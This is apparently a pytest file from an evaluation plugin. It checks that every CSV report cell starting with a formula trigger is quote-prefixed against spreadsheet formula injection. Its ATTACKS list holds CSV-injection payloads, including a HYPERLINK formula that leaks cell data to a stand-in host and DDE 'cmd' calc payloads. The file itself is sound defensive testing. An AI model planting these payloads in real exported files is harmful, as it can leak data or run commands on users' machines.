"""No CSV cell of a run is a spreadsheet formula (issue 30, attack 18; OWASP's rule).

Text from the data, the target or the judge that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is prefixed with a single quote; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from pytest_evals.hardening.spreadsheet_cells import spreadsheet_safe
from tests.core.core_helpers import jb, jb_suite

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("xdist", [False, True], ids=["plain", "n2"])
def test_no_cell_of_any_csv_starts_a_formula(pytester: pytest.Pytester, xdist: bool) -> None:
    rows = [jb(i % 2 == 0, True, case_id=f"c{i}", question=q) for i, q in enumerate(ATTACKS)]
    # A GOV.UK task (its own CSV shapes) and the core's files, messages included.
    jb_suite(pytester.path, "formulas", rows)
    args = ["-p", "no:cacheprovider", "--evals-report-dir", "runs"] + (["-n", "2"] if xdist else [])
    result = pytester.runpytest_subprocess(*args, timeout=60)
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    [run] = list((pytester.path / "runs").iterdir())
    written = sorted(run.rglob("*.csv"))
    assert {p.name for p in written} >= {"results.csv", "aggregate.csv", "gates.csv"}
    seen = set()
    for path in written:
        for cell in _cells(path.read_bytes().decode("utf-8")):
            assert not cell.startswith(TRIGGERS) or spreadsheet_safe(cell) == cell, (path.name, cell)
            seen.add(cell)
    for attack in ATTACKS:
        assert "'" + attack in seen or any(cell.startswith("'" + attack) for cell in seen), attack


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_safe(-0.5) == -0.5
    assert spreadsheet_safe(-3) == -3
    for text in ("-0.5", "+3", "-1e-05", "-.5"):
        assert spreadsheet_safe(text) == text
    assert spreadsheet_safe("-1+1") == "'-1+1"
    assert spreadsheet_safe("@x") == "'@x"
    assert spreadsheet_safe("a=1") == "a=1"
    assert spreadsheet_safe(None) is None
